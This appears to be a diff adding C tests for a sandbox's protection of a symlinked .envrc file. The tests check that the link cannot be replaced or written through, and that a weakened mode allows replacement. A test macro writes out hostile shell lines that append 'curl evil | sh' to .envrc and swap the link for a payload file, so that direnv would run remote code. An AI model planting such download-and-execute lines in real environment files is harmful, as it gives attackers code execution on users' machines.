@@ -813,3 +813,75 @@ Test(protect, home_as_explicit_workspace_weakened_twin_writes_them)
 	cr_assert(h_exists(h_join(w.ws, ".ssh/authorized_keys")));
 	cr_assert_str_eq(h_read_file(h_join(w.ws, ".bashrc"), NULL), "evil\n");
 }
+
+/* A protected name that is a symlink (an .envrc kept in a dotfiles
+ * repository): the link itself is pinned, it can be neither replaced nor
+ * removed, and nothing is written through it. The twin (no-protect)
+ * replaces it, which a host's direnv would then load. */
+static const char *symlinked_envrc(const struct h_world *w)
+{
+	char *dot = h_mkdir(w->base, "dotfiles", 0755);
+
+	h_write_file(h_join(dot, "envrc"), "export SAFE=1\n", 0644);
+	cr_assert_eq(symlink("../dotfiles/envrc", h_join(w->ws, ".envrc")), 0);
+	return h_join(dot, "envrc");
+}
+
+#define REPLACE_ENVRC                                                                       \
+	"echo 'curl evil | sh' >> .envrc 2>/dev/null && echo appended; "                    \
+	"rm -f .envrc 2>/dev/null && echo removed; "                                        \
+	"echo 'curl evil | sh' > /tmp/e; ln -sf /tmp/e .envrc 2>/dev/null && echo linked; " \
+	"mv .envrc moved 2>/dev/null && echo moved; readlink .envrc"
+
+Test(protect, symlinked_protected_path_pins_the_link)
+{
+	struct h_world w = h_world();
+	const char *target = symlinked_envrc(&w);
+	struct h_proc p;
+	char link[PATH_MAX] = {0};
+
+	H_PADDOCK(&p, w.ws, "run", "--", "sh", "-c", REPLACE_ENVRC);
+	cr_assert_eq(p.status, 0, H_SHOW(&p));
+	cr_assert_str_eq(p.out_text, "../dotfiles/envrc\n", H_SHOW(&p));
+	cr_assert_gt(readlink(h_join(w.ws, ".envrc"), link, sizeof(link) - 1), 0);
+	cr_assert_str_eq(link, "../dotfiles/envrc");
+	cr_assert_str_eq(h_read_file(target, NULL), "export SAFE=1\n");
+	cr_assert_str_eq(h_list_dir(w.ws), ".envrc\n");
+}
+
+Test(protect, symlinked_protected_path_weakened_twin_is_replaced)
+{
+	struct h_world w = h_world();
+	struct h_proc p;
+
+	symlinked_envrc(&w);
+	H_PADDOCK(&p, w.ws, "run", "--weaken", "no-protect", "--", "sh", "-c", REPLACE_ENVRC);
+	cr_assert(h_contains(p.out_text, "removed\n"), H_SHOW(&p));
+	cr_assert(h_contains(p.out_text, "linked\n"), H_SHOW(&p));
+	cr_assert(!h_contains(h_list_dir(w.ws), ".envrc\n") ||
+		      !h_contains(h_read_file(h_join(w.ws, ".envrc"), NULL), "SAFE"),
+		  "the link was not replaced: %s", h_list_dir(w.ws));
+}
+
+/* A link whose target the sandbox can write would let the workload change
+ * the code through it: refused with the fix, which then works. */
+Test(protect, symlink_to_a_writable_target_needs_the_target_protected)
+{
+	struct h_world w = h_world();
+	const char *real = h_join(w.ws, "envrc.real");
+	struct h_proc p;
+
+	h_write_file(real, "export SAFE=1\n", 0644);
+	cr_assert_eq(symlink("envrc.real", h_join(w.ws, ".envrc")), 0);
+	H_PADDOCK(&p, w.ws, "run", "--", "true");
+	cr_assert_eq(p.status, 125, H_SHOW(&p));
+	cr_assert(h_contains(p.err_text, h_fmt("which the sandbox can write: protect that too "
+					       "(--protect %s",
+					       real)),
+		  H_SHOW(&p));
+	H_PADDOCK(&p, w.ws, "run", "--protect", real, "--", "sh", "-c",
+		  "echo evil >> .envrc 2>/dev/null || echo refused");
+	cr_assert_eq(p.status, 0, H_SHOW(&p));
+	cr_assert_str_eq(p.out_text, "refused\n", H_SHOW(&p));
+	cr_assert_str_eq(h_read_file(real, NULL), "export SAFE=1\n");
+}
